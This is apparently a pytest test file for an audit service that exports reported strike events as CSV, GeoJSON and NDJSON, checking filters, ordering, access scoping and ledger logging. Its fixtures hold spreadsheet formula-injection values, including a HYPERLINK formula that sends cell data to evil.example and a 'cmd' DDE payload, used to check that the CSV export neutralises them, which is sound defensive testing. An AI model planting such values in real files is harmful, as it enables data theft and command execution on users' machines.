"""contract §8 exports: each format parsed back and held against the list endpoint for the same filters."""
import csv
import io
import json
import re

import pytest
from sqlalchemy import select

from service.audit import exports
from service.ledger.tables import LedgerEntry

from ..helpers import make_event
from .test_auditor_queries import EVENTS

HOSTILE_NOTES = '=HYPERLINK("http://evil.example/?x="&A1, "click"), then\n"quoted", and more'
EXTRA = {
    # what a spreadsheet would run: in notes, the target description, the munition and the source id
    "-g-formula": ("ops-a", {"notes": HOSTILE_NOTES, "target.description": "+cmd|' /C calc'!A0",
                             "weapon.munition": "@SUM(A1:A9)"}),
    # negative coordinates are numbers, not formulas (a violation: Chile is a third country)
    "h-south-west": ("ops-b", {"target.lat": -33.45, "target.lon": -70.66, "target.country": "CL",
                               "launch": None, "occurred_at": "2024-05-01T00:00:00Z"}),
    # same occurred_at as a-compliant and -g-formula: the order falls back to the id across chunks
    "i-tie": ("ops-a", {"notes": "\ttabbed"}),
    "j-tie": ("ops-a", {}),
}
FORMATS = ["csv", "geojson", "ndjson"]


@pytest.fixture
def stored(client, keys):
    ids = {}
    for source_id, (reporter, changes) in {**EVENTS, **EXTRA}.items():
        body = client.post("/v1/events", json=make_event(source_id, **changes), headers=keys[reporter])
        assert body.status_code == 201, body.get_json()
        ids[source_id] = body.get_json()["id"]
    # a corrected event: the export shows its latest version, like the list
    corrected = client.post(f"/v1/events/{ids['j-tie']}/corrections",
                            json=make_event("j-tie", **{"target.category": "residential"}), headers=keys.reporter)
    assert corrected.status_code == 201
    ids["j-tie"] = corrected.get_json()["id"]
    return ids


def listed(client, headers, query="") -> list[dict]:
    items, cursor = [], None
    while True:
        page = client.get(f"/v1/events?limit=3&{query}" + (f"&cursor={cursor}" if cursor else ""), headers=headers)
        assert page.status_code == 200, page.get_json()
        items += page.get_json()["items"]
        cursor = page.get_json()["next_cursor"]
        if cursor is None:
            return items


def exported(client, headers, format_name, query=""):
    response = client.get(f"/v1/events/export?format={format_name}&{query}", headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def parsed(response, format_name) -> list[dict]:
    """Rows as {id, verdict, rule_ids, ...} whatever the format."""
    text = response.get_data(as_text=True)
    if format_name == "csv":
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        return [{**row, "rule_ids": row["rule_ids"].split(";") if row["rule_ids"] else []} for row in rows]
    if format_name == "geojson":
        return [feature["properties"] for feature in json.loads(text)["features"]]
    items = [json.loads(line) for line in text.splitlines()]
    return [{**item, "rule_ids": [f["rule_id"] for f in item["findings"]]} for item in items]


def summary(rows: list[dict]) -> list[tuple]:
    return [(row["id"], row["verdict"], row["rule_ids"]) for row in rows]


def list_summary(items: list[dict]) -> list[tuple]:
    return [(item["id"], item["verdict"], [f["rule_id"] for f in item["findings"]]) for item in items]


QUERIES = ["", "verdict=needs_review", "rule_id=CIV-TARGET", "target_country=RU&family=GMLRS",
           "occurred_from=2024-06-02T03:14:00Z&occurred_to=2024-06-03T00:00:00Z", "bbox=36,50,37,51",
           "review_status=open&reporter=ops-b", "verdict=out_of_scope&category=residential"]


@pytest.mark.parametrize("format_name", FORMATS)
@pytest.mark.parametrize("query", QUERIES)
def test_each_format_holds_what_the_list_shows(stored, client, keys, monkeypatch, format_name, query):
    monkeypatch.setattr(exports, "CHUNK", 2)  # many chunks, and ties in occurred_at across their edges
    expected = list_summary(listed(client, keys.auditor, query))
    assert summary(parsed(exported(client, keys.auditor, format_name, query), format_name)) == expected


def test_filters_apply(stored, client, keys):
    rows = parsed(exported(client, keys.auditor, "csv", "verdict=violation"), "csv")
    assert {row["source_event_id"] for row in rows} == {"b-civilian", "h-south-west", "j-tie"}
    assert exported(client, keys.auditor, "csv", "received_to=2000-01-01T00:00:00Z").get_data(as_text=True) \
        == ",".join(exports.COLUMNS) + "\r\n"


def test_ndjson_lines_are_exactly_the_list_items(stored, client, keys):
    response = exported(client, keys.auditor, "ndjson")
    assert response.mimetype == "application/x-ndjson"
    assert [json.loads(line) for line in response.get_data(as_text=True).splitlines()] == listed(client, keys.auditor)


def as_json_writes(value) -> str:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


@pytest.mark.parametrize("chunk", [2, 1000])
def test_ndjson_and_geojson_are_written_as_json_writes_them(stored, client, keys, monkeypatch, chunk):
    # numbers RFC 8785 and json write differently (0.00001 against 1e-05), an offset and a fraction in
    # occurred_at: the lines spliced from the entries' bytes and those written again must not differ
    odd = make_event("k-odd", **{"target.lat": 0.00001, "target.lon": 1e-7, "launch": None,
                                  "occurred_at": "2024-06-02T05:14:00.5+02:00", "notes": "1e-7, 6e-4 and 10.00001"})
    assert client.post("/v1/events", json=odd, headers=keys.reporter).status_code == 201
    monkeypatch.setattr(exports, "CHUNK", chunk)
    items = listed(client, keys.auditor)
    lines = exported(client, keys.auditor, "ndjson").get_data(as_text=True).splitlines()
    assert [json.loads(line) for line in lines] == items
    assert lines == [as_json_writes(json.loads(line)) for line in lines]  # json's own numbers and escapes
    text = exported(client, keys.auditor, "geojson").get_data(as_text=True)
    assert text == as_json_writes(json.loads(text)) + "\n"
    assert [feature["id"] for feature in json.loads(text)["features"]] == [item["id"] for item in items]


def test_csv_row_of_an_event(stored, client, keys):
    response = exported(client, keys.auditor, "csv", "rule_id=CIV-TARGET")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="events-\d{8}T\d{6}Z\.csv"', response.headers["Content-Disposition"])
    reader = csv.reader(io.StringIO(response.get_data(as_text=True), newline=""))
    assert next(reader) == list(exports.COLUMNS)
    row = dict(zip(exports.COLUMNS, next(reader)))
    item = next(i for i in listed(client, keys.auditor) if i["source_event_id"] == "b-civilian")
    assert row["id"] == stored["b-civilian"] and row["verdict"] == "violation" and row["severity"] == "critical"
    assert row["rule_ids"] == "CIV-TARGET" and row["findings"] == item["findings"][0]["message"]
    assert row["family"] == "GMLRS" and row["us_provided"] == "true" and row["review_status"] == "open"
    assert (row["target_lat"], row["target_lon"], row["target_country"]) == ("49.99", "36.23", "UA")
    assert row["computed_country"] == "UA" and row["launch_lat"] == row["launch_lon"] == ""
    assert row["zones"] == ";".join(item["computed"]["zones"])
    assert row["policy_sha256"] == item["policy_sha256"] and row["notes"] == "free text"


def test_csv_defuses_formulas_and_keeps_numbers_and_escaping(stored, client, keys):
    rows = {row["source_event_id"]: row for row in parsed(exported(client, keys.auditor, "csv"), "csv")}
    hostile = rows["'-g-formula"]  # even the source id: '-' starts a formula
    assert hostile["notes"] == "'" + HOSTILE_NOTES  # commas, quotes and the newline survive the round trip
    assert hostile["target_description"] == "'+cmd|' /C calc'!A0"
    assert hostile["munition"] == "'@SUM(A1:A9)"
    assert rows["i-tie"]["notes"] == "'\ttabbed"
    assert (rows["h-south-west"]["target_lat"], rows["h-south-west"]["target_lon"]) == ("-33.45", "-70.66")
    assert rows["a-compliant"]["notes"] == "free text"
    # the other formats carry the text as it was reported
    ndjson = parsed(exported(client, keys.auditor, "ndjson"), "ndjson")
    assert next(i for i in ndjson if i["id"] == stored["-g-formula"])["notes"] == HOSTILE_NOTES


def test_geojson_is_a_feature_collection_qgis_opens(stored, client, keys):
    response = exported(client, keys.auditor, "geojson")
    assert response.mimetype == "application/geo+json"
    assert response.headers["Content-Disposition"].endswith('.geojson"')
    collection = json.loads(response.get_data(as_text=True))
    assert set(collection) == {"type", "features"} and collection["type"] == "FeatureCollection"  # no crs
    items = {item["id"]: item for item in listed(client, keys.auditor)}
    assert len(collection["features"]) == len(items)
    for feature in collection["features"]:
        item = items[feature["id"]]
        assert feature["type"] == "Feature" and feature["geometry"]["type"] == "Point"
        assert feature["geometry"]["coordinates"] == [item["target"]["lon"], item["target"]["lat"]]  # lon, lat
        launch = item.get("launch")
        assert feature["properties"]["launch"] == ([launch["lon"], launch["lat"]] if launch else None)
        assert feature["properties"]["findings"] == [f["message"] for f in item["findings"]]
        assert feature["properties"]["zones"] == item["computed"]["zones"]
    south_west = next(f for f in collection["features"] if f["id"] == stored["h-south-west"])
    assert south_west["geometry"]["coordinates"] == [-70.66, -33.45]


@pytest.mark.parametrize("format_name", FORMATS)
def test_reporters_export_only_their_own(stored, client, keys, format_name):
    own = parsed(exported(client, keys["ops-b"], format_name), format_name)
    assert summary(own) == list_summary(listed(client, keys["ops-b"]))
    assert {row["source_event_id"] for row in own} == {"f-sea", "h-south-west"}
    assert parsed(exported(client, keys["ops-b"], format_name, "reporter=ops-a"), format_name) == []
    assert parsed(exported(client, keys["ops-b"], format_name, "reporter=ops-b"), format_name) == own


def test_empty_exports_are_still_well_formed(stored, client, keys):
    query = "reporter=nobody"
    assert json.loads(exported(client, keys.auditor, "geojson", query).get_data()) == {
        "type": "FeatureCollection", "features": []}
    assert exported(client, keys.auditor, "ndjson", query).get_data() == b""


@pytest.mark.parametrize("query, field", [
    ("", "format"), ("format=xlsx", "format"), ("format=CSV", "format"), ("format=csv&verdict=bad", "verdict"),
    ("format=csv&bbox=1,2,3", "bbox"), ("format=csv&limit=10", "limit"), ("format=csv&cursor=abc", "cursor"),
    ("format=csv&occurred_from=2024-01-01", "occurred_from"),
])
def test_bad_parameters_are_400_naming_them(stored, client, keys, query, field):
    response = client.get(f"/v1/events/export?{query}", headers=keys.auditor)
    assert response.status_code == 400
    assert response.mimetype == "application/problem+json"
    assert field in response.get_json()["errors"], response.get_json()


def test_a_long_export_tells_the_server_it_is_alive_after_each_chunk(stored, client, keys, app, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 4)
    beats = []
    app.extensions["worker_heartbeat"] = lambda: beats.append(1)  # gunicorn's worker.notify, when set
    assert len(parsed(exported(client, keys.auditor, "ndjson"), "ndjson")) == len(EVENTS) + len(EXTRA)  # 10: 3 chunks
    assert len(beats) == 2  # between chunks


def test_export_needs_a_key(client):
    assert client.get("/v1/events/export?format=csv").status_code == 401


def access_entries(app) -> list[dict]:
    with app.extensions["db_sessions"]() as session:
        return [json.loads(e.canonical) for e in session.scalars(
            select(LedgerEntry).where(LedgerEntry.entry_type == "access").order_by(LedgerEntry.id))]


def test_an_auditors_export_is_an_access_entry_with_its_count_and_a_reporters_is_not(stored, client, keys, app):
    exported(client, keys.reporter, "csv")
    exported(client, keys["ops-b"], "geojson", "reporter=ops-a")
    client.get("/v1/events/export?format=pdf", headers=keys.auditor)  # refused: nothing was read
    assert access_entries(app) == []
    exported(client, keys.auditor, "csv", "verdict=needs_review")
    exported(client, keys.admin, "geojson")
    entries = access_entries(app)
    assert [(e["who"], e["endpoint"], e["result_count"]) for e in entries] == [
        ("auditor-1", "/v1/events/export", len(listed(client, keys.auditor, "verdict=needs_review"))),
        ("admin-1", "/v1/events/export", len(EVENTS) + len(EXTRA))]
    assert entries[0]["query"] == {"format": ["csv"], "verdict": ["needs_review"]}
